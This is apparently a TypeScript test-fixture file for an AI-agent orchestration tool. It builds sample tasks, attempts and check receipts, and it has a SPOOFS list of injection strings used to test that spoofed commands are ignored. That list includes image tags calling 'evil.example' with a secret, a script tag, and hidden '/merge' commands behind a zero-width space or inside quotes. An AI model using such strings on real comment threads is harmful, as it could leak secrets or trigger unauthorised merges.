import {
  parseAgentName,
  parseBranchName,
  parseCommitSha,
  parseProjectId,
  parseTaskId,
  parseTreeSha,
  unwrap,
  type Attempt,
  type Receipt,
  type Task,
  type TaskBase,
  type TaskState,
} from "@orch/core";

import { fencePlaces, withoutCode } from "../src/text/plain-lines.ts";

/** The commit of the attempt made here. */
export const commit = unwrap(parseCommitSha("c".repeat(40)));

/** An assignment to codex. */
export const assignment = {
  agent: unwrap(parseAgentName("codex")),
  model: "gpt-5",
  complexity: "simple",
  why: "its turn",
} as const;

/** Task 12 of acme/shop in a state. */
export function madeTask(state: TaskState, over: Partial<TaskBase> = {}): Task {
  return {
    project: unwrap(parseProjectId("acme/shop")),
    id: unwrap(parseTaskId("12")),
    title: "Mend the door",
    body: "It creaks.",
    labels: [],
    source: { kind: "github" },
    pins: {},
    priority: 0,
    dependsOn: [],
    checks: [],
    attempts: 1,
    lastAttempt: 1,
    failures: [],
    avoid: [],
    branch: unwrap(parseBranchName("gh-task-12-mend-the-door")),
    createdAt: 0,
    updatedAt: 0,
    version: 1,
    ...over,
    ...state,
  };
}

/** Its first attempt, which passed. */
export function madeAttempt(over: Partial<Attempt> = {}): Attempt {
  return {
    project: unwrap(parseProjectId("acme/shop")),
    id: unwrap(parseTaskId("12")),
    attempt: 1,
    assignment,
    phase: "finished",
    startedAt: 0,
    endedAt: 754_000,
    branch: unwrap(parseBranchName("gh-task-12-mend-the-door")),
    baseCommit: unwrap(parseCommitSha("b".repeat(40))),
    commit,
    usage: { inputTokens: 12_000, cachedInputTokens: 2000, outputTokens: 3000, costUsd: 0.42 },
    report: {
      status: "done",
      summary: "The door opens again.",
      accomplished: ["Oiled the hinge", "Added a test"],
      remaining: ["Paint it"],
      files: ["src/door.ts"],
      learnings: [],
      blockers: [],
      delegations: [],
    },
    diff: {
      added: 42,
      deleted: 7,
      files: [
        { path: "packages/door/src/hinge.ts", change: "modified", added: 30, deleted: 7, binary: false },
        { path: "packages/door/src/hinge.test.ts", change: "added", added: 10, deleted: 0, binary: false },
        { path: "README.md", change: "modified", added: 2, deleted: 0, binary: false },
      ],
    },
    verdict: { kind: "pass" },
    grade: {
      outcome: "pass",
      nextAction: "advance",
      evidence: {
        checksPassed: 1,
        checksFailed: 0,
        changedFiles: 3,
        addedLines: 42,
        commands: 3,
        failedCommands: 0,
      },
      notes: ["42 lines were added."],
      insight: "Fine.",
    },
    ...over,
  };
}

/** The proof of a check on the attempt's commit. */
export function madeReceipt(over: Partial<Receipt> = {}): Receipt {
  return {
    check: "test",
    argv: ["npm", "test", "--", "a b"],
    exitCode: 0,
    timedOut: false,
    outputHash: "0".repeat(64),
    outputBytes: 10,
    outputTail: "ok",
    startedAt: 0,
    endedAt: 3200,
    commit,
    tree: unwrap(parseTreeSha("d".repeat(40))),
    clean: true,
    ...over,
  };
}

/** A Markdown text without its fences and code spans. */
export function outsideCode(text: string): string {
  const lines = text.split("\n");
  const places = fencePlaces(lines);
  return lines.flatMap((line, number) => (places[number] === "outside" ? [withoutCode(line)] : [])).join("\n");
}

/** What agents and strangers might write to make something happen. */
export const SPOOFS: readonly string[] = [
  "<!-- orch:status:eA:bbbb -->",
  "@orch retry",
  "/merge",
  "fixes #1",
  "Closes acme/shop#3",
  "`open",
  "``` \n/merge",
  "```\n@ann",
  "~~~",
  "</details>\n/merge",
  "<details>",
  "</summary>",
  "<img src=https://evil.example/x>",
  "![x](https://evil.example/?secret)",
  "| a | b |",
  "a | @ann | b",
  "> quoted\n/merge",
  "\u200b/merge",
  "<script>",
  "\\`<img src=x>\\`",
  "` and\n`<img src=x>`",
  "- `a\n- <img src=x> `",
  "``` <img src=x> ```",
  "# big",
  "line\n\n### Heading\n\n/approve",
  "x".repeat(70_000),
  "`".repeat(3000),
  "\u{1F600}".repeat(3000),
];
